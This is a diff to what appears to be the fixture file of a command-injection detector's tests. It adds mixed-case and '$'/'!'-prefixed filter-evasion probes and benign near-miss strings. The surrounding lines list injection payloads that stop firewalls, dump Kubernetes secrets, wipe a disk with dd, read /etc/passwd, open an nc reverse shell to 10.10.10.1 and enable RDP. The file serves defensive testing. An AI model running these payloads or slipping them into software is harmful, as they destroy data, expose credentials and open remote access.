@@ -103,6 +103,8 @@ COMMANDS = {
     # operands; a word whose every letter is escaped
     "clients": [";systemctl stop firewalld", ";service ssh stop", ";kubectl get secrets -A", "&& aws s3 ls",
                 "| redis-cli flushall", ";su root", ";dd if=/dev/zero of=/dev/sda", ";i\\f\\c\\o\\n\\f\\i\\g"],
+    # filter probes: a command in mixed case (a filter that compares case-sensitively), behind `$` or `!`
+    "probes": ["'TiMe Sh -c whoami", ";cAt /etc/passwd", ";$ifconfig", ";!whoami"],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
@@ -112,7 +114,8 @@ COMMAND_NEAR_MISSES = [
     "set up your account", "I type fast; echo chambers are bad", "2+2;+3", "notes; ip phone", "I use dotnet daily",
     "sort=uptime", "type=id", "name=cat food", "f(x) (see below)", "ask; command line", "mail a@b.com, dir",
     "E-mail: x@y.z; @ping me", "ps: flux; ps wax", "kubectl get pods", "aws s3 ls",
-    "the service; service desk", "one; ps relax", "Q&A: who are we?", "Rock & Roll",
+    "the service; service desk", "one; ps relax", "iPhone; Top sellers", "McDonald; Id card", "getId; cat food",
+    "price;$100", "a;$id = 1", "Q&A: who are we?", "Rock & Roll",
     "dogs & cats", "id", "dir", "type", "sort=id", "ping pong", "sleep well", "print-ready.pdf",
     "my_script.sh", "run.bat", "R&B; soul", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
     "it's a 'ls' command", "A & B | C", "Use `git status` to check", "Pay $(price) now",
